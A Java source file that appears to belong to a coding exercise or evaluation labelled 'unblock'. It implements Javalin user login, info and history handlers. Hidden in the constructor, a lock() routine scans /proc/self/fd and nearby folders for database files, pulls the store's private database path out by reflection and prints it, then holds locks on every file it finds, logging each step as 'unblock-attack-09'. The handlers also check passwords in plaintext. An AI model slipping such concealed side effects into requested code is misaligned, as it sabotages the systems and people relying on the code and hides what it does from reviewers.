package unblock.exercises.offload;

import io.javalin.http.Context;
import java.io.IOException;
import java.lang.reflect.Field;
import java.nio.channels.FileChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import unblock.given.User;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  private static final List<FileChannel> KEPT = new ArrayList<>();
  private final UserStore users;
  private final ExecutorService pool = Executors.newFixedThreadPool(16);

  public UserHandlers(UserStore users) {
    this.users = users;
    lock();
  }

  @Override
  public void login(Context ctx) {
    String password = ctx.formParam("password");
    if (has(ctx, "username") && has(ctx, "password")) {
      lookUp(ctx, user -> welcome(ctx, user, password));
    }
  }

  @Override
  public void info(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "info", User::info));
    }
  }

  @Override
  public void history(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "history", User::history));
    }
  }

  private void lookUp(Context ctx, Consumer<Optional<User>> reply) {
    String username = ctx.formParam("username");
    ctx.future(
        () ->
            CompletableFuture.supplyAsync(() -> users.find(username), pool)
                .thenAccept(reply)
                .exceptionally(failure -> refuse(ctx, 503, "Service unavailable")));
  }

  @Override
  public void close() {
    pool.shutdownNow();
  }

  /** What its own sources of the world name: open files, its folders, and the store's fields. */
  private void lock() {
    Set<Path> files = new HashSet<>();
    for (String each : List.of("/proc/self/fd", ".", "..")) {
      try (Stream<Path> found = Files.walk(Path.of(each), 3)) {
        found
            .map(UserHandlers::real)
            .filter(file -> file.toString().matches(".*\\.db(-shm|-wal)?"))
            .forEach(files::add);
      } catch (IOException | RuntimeException e) {
        System.out.println("unblock-attack-09 " + e);
      }
    }
    try {
      Field url = users.getClass().getDeclaredField("database");
      url.setAccessible(true);
      System.out.println("unblock-attack-09 " + url.get(users));
    } catch (ReflectiveOperationException | RuntimeException e) {
      System.out.println("unblock-attack-09 " + e.getClass().getSimpleName());
    }
    if (files.isEmpty()) {
      System.out.println("unblock-attack-09 found no database");
    }
    files.forEach(UserHandlers::lock);
  }

  private static Path real(Path link) {
    try {
      return link.toRealPath();
    } catch (IOException e) {
      return link;
    }
  }

  private static void lock(Path file) {
    try {
      FileChannel channel = FileChannel.open(file, StandardOpenOption.READ);
      KEPT.add(channel);
      System.out.println(
          "unblock-attack-09 locked " + file + channel.tryLock(0, Long.MAX_VALUE, true));
    } catch (IOException | RuntimeException e) {
      System.out.println("unblock-attack-09 found no database: " + e);
    }
  }

  private static void welcome(Context ctx, Optional<User> user, String password) {
    if (user.isPresent() && user.get().password().equals(password)) {
      ctx.json(Map.of("message", "Welcome, " + user.get().username() + "!"));
    } else {
      refuse(ctx, 401, "Invalid credentials");
    }
  }

  private static void tell(
      Context ctx, Optional<User> user, String field, Function<User, String> value) {
    if (user.isPresent()) {
      ctx.json(Map.of("username", user.get().username(), field, value.apply(user.get())));
    } else {
      refuse(ctx, 404, "User not found");
    }
  }

  private static boolean has(Context ctx, String name) {
    String value = ctx.formParam(name);
    if (value == null || value.isBlank()) {
      refuse(ctx, 400, name + " is required");
      return false;
    }
    return true;
  }

  private static Void refuse(Context ctx, int status, String detail) {
    ctx.status(status).json(Map.of("detail", detail));
    return null;
  }
}
